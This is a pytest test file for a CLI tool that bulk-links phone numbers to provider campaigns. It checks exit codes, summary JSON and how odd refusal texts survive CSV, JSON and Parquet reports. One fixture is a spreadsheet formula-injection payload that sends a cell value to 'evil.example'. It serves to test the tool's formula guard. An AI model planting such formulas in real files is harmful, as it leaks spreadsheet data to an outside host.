"""The report, the failures file, ``--summary-json`` and the exit code tell one truth, also
in odd runs: a ``status`` run, an input bulk cannot read, a dry run whose plan fails rows."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from aiohttp import web
from click.testing import CliRunner

from bulk.cli import main
from bulk.inputs import load_rows, neutralise_formula
from tests._helpers import FAST, ThreadedSandbox, behind_proxy, write_csv


@pytest.fixture(autouse=True)
def _work_in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def _run(*args: str) -> tuple[int, dict[str, Any]]:
    result = CliRunner().invoke(
        main, [*args, "--sandbox", "--yes", "--quiet", "--summary-json", "s.json"]
    )
    assert "Traceback" not in result.output, result.output
    return result.exit_code, json.loads(Path("s.json").read_text())


def _files_named_exist(summary: dict[str, Any]) -> None:
    for key in ("report", "failures", "journal"):
        if summary[key] is not None:
            assert Path(summary[key]).is_file(), (key, summary[key])


def test_status_names_no_failures_file_it_never_writes(tmp_path: Path) -> None:
    """``status`` writes a report only; its summary named a failures file all the same
    whenever a row was not linked (``unknown``, ``rejected``)."""
    src = write_csv(tmp_path / "in.csv", "number,campaign", ["+14155550143,CUOGHIN", "x,CUOGHIN"])
    code, summary = _run("status", str(src))
    assert code == 1 and summary["exit_code"] == 1
    assert summary["counts"]["rejected"] == 1
    assert summary["failures"] is None
    _files_named_exist(summary)
    report = pl.read_csv(summary["report"], infer_schema=False)
    assert report.height == summary["rows"] == 2


def test_a_run_stopped_before_its_journal_existed_names_no_journal(tmp_path: Path) -> None:
    """An input bulk cannot read stops the run (exit 2) before the journal is made; the
    summary named the journal all the same."""
    src = tmp_path / "in.csv"
    src.write_text("")
    code, summary = _run("link", str(src), "--campaign", "CUOGHIN")
    assert code == 2 and summary["exit_code"] == 2
    assert summary["journal"] is None and summary["report"] is None
    _files_named_exist(summary)


def test_a_dry_run_whose_plan_fails_rows_exits_1_as_its_counts_say(tmp_path: Path) -> None:
    """A dry run counted a row of a campaign the provider does not have as ``failed`` and
    still exited 0."""
    src = write_csv(
        tmp_path / "in.csv", "number,campaign", ["+14155559100,CNOSUCH", "+14155559101,CUOGHIN"]
    )
    code, summary = _run("link", str(src), "--dry-run")
    assert summary["counts"]["failed"] == 1, summary
    assert code == 1 and summary["exit_code"] == 1
    fine = write_csv(tmp_path / "ok.csv", "number,campaign", ["+14155559101,CUOGHIN"])
    code, summary = _run("link", str(fine), "--dry-run")
    assert code == 0 and summary["exit_code"] == 0, summary


# --- provider texts in reports: every format keeps the row, CSV reads back as given -------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXTS = {
    "newline": "refused:\nsecond line\r\nthird",
    "nul": "refused \x00 with a NUL",
    "formula": FORMULA,
    "long": "x" * 100_000,
    "tab": "\trefused after a TAB",
}


def _refusing(text: str) -> Callable[[str, str, bytes], web.Response | None]:
    body = json.dumps({"api_id": "x", "error": text}).encode()

    def before(method: str, path: str, sent: bytes) -> web.Response | None:
        if method == "POST" and "/Number" in path:
            return web.Response(status=400, body=body, content_type="application/json")
        return None

    return before


def _read(path: Path) -> pl.DataFrame:
    if path.suffix == ".json":
        return pl.read_json(path)
    if path.suffix == ".parquet":
        return pl.read_parquet(path)
    return pl.read_csv(path, infer_schema=False)


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_a_refusal_text_of_any_shape_keeps_its_row_in_every_format(
    suffix: str, tmp_path: Path, sandbox_factory: Callable[..., ThreadedSandbox]
) -> None:
    sb = sandbox_factory(seed=3)
    for name, text in TEXTS.items():
        src = write_csv(tmp_path / f"{name}.csv", "number,campaign,tag", ["+16505550190,CUOGHIN,t"])
        report, failures = tmp_path / f"{name}.r{suffix}", tmp_path / f"{name}.f.csv"
        with behind_proxy(sb, before=_refusing(text)) as proxied:
            result = CliRunner().invoke(
                main,
                ["link", str(src), "--base-url", proxied.base_url, "--report", str(report),
                 "--failures", str(failures), "--journal", str(tmp_path / f"{name}.j"), *FAST],
                env=sb.env("plivo"),
            )
        assert result.exit_code == 1, (name, result.output)
        row = _read(report).row(0, named=True)
        assert row["outcome"] == "failed" and row["tag"] == "t", (name, row)
        expected = f"{text} (api_id x)"
        if suffix == ".csv":
            expected = expected.replace("\x00", "\ufffd")  # no CSV reader takes a NUL
            assert row["reason"] in (expected, "'" + expected), (name, row["reason"][:80])
            assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r")), name
        else:
            assert row["reason"] == expected, (name, row["reason"][:80])
        again = load_rows(failures)  # re-fed as input: the row, its text as given
        assert again.frame.get_column("e164").to_list() == ["+16505550190"]
        # data cells keep the guard's ' when read back (only numbers and headers lose it)
        assert again.frame.get_column("previous_reason").to_list() == [
            neutralise_formula(expected.replace("\x00", "\ufffd"))
        ], name


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_a_refusal_in_invalid_utf8_keeps_its_row_and_never_crashes(
    suffix: str, tmp_path: Path, sandbox_factory: Callable[..., ThreadedSandbox]
) -> None:
    sb = sandbox_factory(seed=3)
    body = b'{"api_id": "x", "error": "refused \\u00e9 \xff\xfe\xc3 bytes"}'

    def before(method: str, path: str, sent: bytes) -> web.Response | None:
        if method == "POST" and "/Number" in path:
            return web.Response(status=400, body=body, content_type="application/json")
        return None

    src = write_csv(tmp_path / "in.csv", "number,campaign", ["+16505550190,CUOGHIN"])
    report = tmp_path / f"r{suffix}"
    with behind_proxy(sb, before=before) as proxied:
        result = CliRunner().invoke(
            main,
            ["link", str(src), "--base-url", proxied.base_url, "--report", str(report),
             "--journal", str(tmp_path / "j"), "--attempts", "2", *FAST],
            env=sb.env("plivo"),
        )
    assert result.exit_code == 1, result.output
    row = _read(report).row(0, named=True)
    assert row["outcome"] in ("failed", "unknown") and row["reason"], row


@pytest.mark.parametrize("name", ["f.json", "f.Parquet"])
def test_a_failures_file_bulk_could_not_read_back_is_refused_before_anything_is_sent(
    name: str, tmp_path: Path
) -> None:
    """``--failures f.json`` wrote JSON that bulk, told to re-feed it, refused as input."""
    src = write_csv(tmp_path / "in.csv", "number,campaign", ["+14155550142,CUOGHIN"])
    result = CliRunner().invoke(
        main, ["link", str(src), "--sandbox", "--yes", "--quiet", "--failures", name]
    )
    assert result.exit_code == 2, result.output
    assert "--failures" in result.output and ".csv" in result.output
    assert not (tmp_path / name).exists()
    assert not (tmp_path / "in.csv.link.plivo-sandbox.report.csv").exists()
    fine = CliRunner().invoke(
        main, ["link", str(src), "--sandbox", "--yes", "--quiet", "--failures", "F.CSV"]
    )
    assert fine.exit_code == 1, fine.output
    assert load_rows(tmp_path / "F.CSV").frame.get_column("e164").to_list() == ["+14155550142"]


def test_a_report_re_fed_as_input_gives_a_report_with_the_same_columns(
    tmp_path: Path, sandbox_factory: Callable[..., ThreadedSandbox], monkeypatch: pytest.MonkeyPatch
) -> None:
    # before: each re-feed carried the report's own columns as the input's, renamed:
    # line -> input_line -> input_input_line, e164 -> input_e164, outcome, reason, ...
    monkeypatch.chdir(tmp_path)
    sb = sandbox_factory()
    source = write_csv(tmp_path / "in.csv", "number,campaign_id,note",
                       ["+14155550100,CUOGHIN,first", "+14155550101,CUOGHIN,second"])
    columns = []
    for n in range(3):
        report = tmp_path / f"r{n}.csv"
        args = ["link", str(source), "--base-url", sb.base_url, "--poll-interval", "0.2",
                "--report", str(report), "--journal", str(tmp_path / f"j{n}"), "--yes", "--quiet"]
        result = CliRunner().invoke(main, args, env=sb.env("plivo"))
        assert result.exit_code == 0, result.output
        columns.append(pl.read_csv(report, infer_schema=False).columns)
        source = report
    assert columns[0] == columns[1] == columns[2], columns
    assert "note" in columns[2] and not any(c.startswith("input_") for c in columns[2])
